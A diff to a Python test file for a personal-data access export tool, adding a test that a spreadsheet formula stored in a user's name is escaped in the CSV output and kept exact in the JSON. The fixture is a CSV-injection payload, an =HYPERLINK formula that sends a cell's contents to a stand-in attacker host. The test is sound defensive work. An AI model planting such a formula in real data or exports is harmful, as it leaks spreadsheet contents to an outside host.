@@ -3,6 +3,8 @@ holds and proof, restriction, objection, withdrawal — and a wrong map or a dat
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import zipfile
 from collections.abc import Iterator
@@ -114,6 +116,22 @@ def test_access_in_english_and_the_summary_escapes_html(rt: Runtime, service: Re
         users = zf.read("app/users.csv").decode()
     assert "Your rights" in summary and "Bookkeeping" in summary
     assert "<script>" in users and "<script>" not in summary
+
+
+def test_a_formula_in_the_persons_data_is_text_in_the_csv_and_exact_in_the_json(
+        rt: Runtime, service: Requests, app_db: Engine, tmp_path: Path) -> None:
+    """OWASP CSV injection: a spreadsheet would run =HYPERLINK(...) someone wrote."""
+    formula = '=HYPERLINK("https://evil.example/?q="&A1,"Klikk")'
+    with app_db.begin() as conn:
+        conn.execute(text("UPDATE users SET name = :n WHERE id = 13"), {"n": formula})
+    rid = opened(rt, service, "access", "ext:13")
+    result = service.run(rid, reason="identity checked", out_dir=tmp_path)
+    with zipfile.ZipFile(result.outcome["package"]["path"]) as zf:
+        users = list(csv.DictReader(io.StringIO(zf.read("app/users.csv").decode())))
+        data = json.loads(zf.read("data.json"))
+    assert [u["name"] for u in users] == ["'" + formula]
+    assert not any(v.startswith(("=", "+", "-", "@")) for u in users for v in u.values() if v)
+    assert [u["name"] for u in data["datasets"]["app"]["users"]] == [formula]
 
 
 # ---- portability --------------------------------------------------------------------------
